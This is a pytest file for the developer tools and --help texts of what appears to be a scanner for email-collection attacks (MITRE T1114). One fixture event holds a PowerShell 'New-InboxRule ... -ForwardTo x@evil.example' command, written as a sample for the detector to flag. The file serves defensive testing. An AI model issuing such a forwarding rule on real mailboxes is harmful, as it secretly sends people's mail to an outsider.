"""The developer scripts in scripts/ and tools/, and the offline scan's modules, explain themselves (`--help` says what each
does and every option), and tools/bench.py sends exactly the events it is asked to."""

import importlib
import json
import os
import subprocess
import sys

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
NOT_HERE = set()


def _runnable(path):
    """Every shell script and Python file: a library module (tools/step_count.py) answers --help
    with what it is for, too."""
    return path.endswith((".sh", ".py"))


SCRIPTS = sorted(os.path.join(folder, name) for folder in ("scripts", "tools")
                 for name in os.listdir(os.path.join(REPO, folder))
                 if name.endswith((".py", ".sh")) and not name.startswith("_")
                 and os.path.join(folder, name) not in NOT_HERE and _runnable(os.path.join(folder, name)))


def help_text(script):
    command = (["bash"] if script.endswith(".sh") else [sys.executable]) + [os.path.join(REPO, script), "--help"]
    completed = subprocess.run(command, capture_output=True, text=True, timeout=120, cwd=REPO)
    assert completed.returncode == 0, completed.stderr[-2000:]
    return completed.stdout


def test_every_script_is_covered():
    assert {"scripts/test.sh", "tools/build.py", "tools/bench.py", "tools/chunked_client.py",
            "tools/fuzz.py"} <= set(SCRIPTS)


@pytest.mark.parametrize("script", SCRIPTS)
def test_help_says_what_the_script_does_and_every_option(script):
    text = help_text(script)
    assert text.lower().startswith("usage:"), text[:200]
    if script.endswith(".py"):
        module = importlib.import_module(script[:-3].replace("/", "."))
        assert module.__doc__.split("\n", 1)[0].strip() in text  # what it does
        parser = module.build_parser()
        for action in parser._actions:
            assert action.help, "%s: %s has no help text" % (script, action.option_strings or action.dest)
            for flag in action.option_strings:
                assert flag in text, (script, flag)


def test_test_sh_help_says_how_to_run_one_test_file_and_passes_the_rest_to_tox():
    text = help_text("scripts/test.sh")
    assert "-e py313 -- tests/test_rules.py" in text
    assert "passed to tox" in text and "tox" in text.split("\n", 3)[2]


def test_chunked_client_runs_the_command_from_the_command_line(tmp_path):
    events = tmp_path / "events.jsonl"
    events.write_text('{"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "m@contoso.com", '
                      '"ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example"}\n'
                      '{"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": "Get-Date"}\n')
    client = os.path.join(REPO, "tools", "chunked_client.py")
    found = subprocess.run([sys.executable, client, str(events)], capture_output=True, text=True, timeout=300)
    assert found.returncode == 0, found.stderr[-2000:]
    records = [json.loads(line) for line in found.stdout.splitlines()]
    assert [r["t1114_rule"] for r in records] == ["t1114_003_inbox_rule_forward_cmdlet"]
    refused = subprocess.run([sys.executable, client, str(events), "all"], capture_output=True, text=True, timeout=300)
    assert refused.returncode != 0 and refused.stdout == ""
    assert 'ERROR: t1114: "all" is not an option' in refused.stderr


@pytest.mark.parametrize("chunk, totals", [(50000, [5000]), (50000, [100000, 1000]), (1000, [2500, 1500]),
                                           (1000, [9000]), (7, [7])])
def test_bench_generates_no_more_than_it_sends_and_sends_exactly_what_is_asked(chunk, totals):
    from tools.bench import DISTINCT_CHUNKS, make_stream, send_plan
    from tools.chunked_client import decode_records

    stream = make_stream(chunk, max(totals))
    generated = sum(count for _, count, _, _ in stream)
    assert generated <= max(totals) and len(stream) <= DISTINCT_CHUNKS
    for total in totals:
        plan = send_plan(stream, total)
        assert sum(count for _, count in plan) == total
        assert all(count <= min(chunk, max(totals)) for _, count in plan)
        # each body holds as many CSV records as it says
        assert [len(decode_records(body)) for body, _ in plan] == [count for _, count in plan]


def test_library_modules_say_they_are_imported_not_run():
    for script in ("tools/real_streams.py", "tools/step_count.py"):
        text = help_text(script)
        assert "A module, not a command" in text, script
        completed = subprocess.run([sys.executable, os.path.join(REPO, script)], capture_output=True, text=True,
                                   timeout=120, cwd=REPO)
        assert completed.returncode == 0 and completed.stdout.startswith("usage:"), script  # never silent
    for arguments in (["--help"], []):
        completed = subprocess.run([sys.executable, "-m", "t1114_scan.formats"] + arguments, capture_output=True,
                                   text=True, timeout=120, cwd=REPO)
        assert completed.returncode == 0 and completed.stdout.startswith("usage:"), completed.stderr[-2000:]
        assert "A module, not a command" in completed.stdout


@pytest.mark.parametrize("module", ["t1114_scan.cli", "t1114_scan.formats"])
def test_the_scan_package_modules_explain_themselves(module):
    """The scan left tools/ for its own package; its modules answer --help as the tools do."""
    completed = subprocess.run([sys.executable, "-m", module, "--help"], capture_output=True, text=True, timeout=120,
                               cwd=REPO)
    assert completed.returncode == 0, completed.stderr[-2000:]
    text = completed.stdout
    assert text.lower().startswith("usage:"), text[:200]
    imported = importlib.import_module(module)
    assert imported.__doc__.split("\n", 1)[0].strip() in text
    for action in imported.build_parser()._actions:
        assert action.help, "%s: %s has no help text" % (module, action.option_strings or action.dest)
        for flag in action.option_strings:
            assert flag in text, (module, flag)


@pytest.mark.parametrize("name,content,sentence", [
    ("missing.jsonl", None, "does not exist."),
    ("truncated.jsonl", b'{"sourcetype": "x", "_raw": "a"}\n{"sourcetype": "x", "_r', "line 2 is not complete JSON"),
    ("truncated_array.json", b'[{"sourcetype": "x", "_raw": "a"}, {"sourc', "JSON array that is not complete JSON"),
    ("numbers.jsonl", b"1\n2\n", "line 1 is not a JSON object"),
])
def test_the_chunked_client_says_one_sentence_on_a_bad_events_file(tmp_path, name, content, sentence):
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    completed = subprocess.run([sys.executable, os.path.join(REPO, "tools", "chunked_client.py"), str(path)],
                               capture_output=True, text=True, timeout=120, cwd=REPO)
    assert completed.returncode != 0 and "Traceback" not in completed.stderr
    lines = completed.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("chunked_client: ") and sentence in lines[0], completed.stderr


def test_the_chunked_client_reads_a_bom_and_a_json_array(tmp_path):
    from tools.chunked_client import load_events

    event = {"sourcetype": "x", "_raw": "a"}
    bom = tmp_path / "bom.jsonl"
    bom.write_bytes(b"\xef\xbb\xbf" + json.dumps(event).encode() + b"\n")
    array = tmp_path / "array.json"
    array.write_text(json.dumps([event, event], indent=2), encoding="utf-8")
    assert load_events(str(bom)) == [event]
    assert load_events(str(array)) == [event, event]
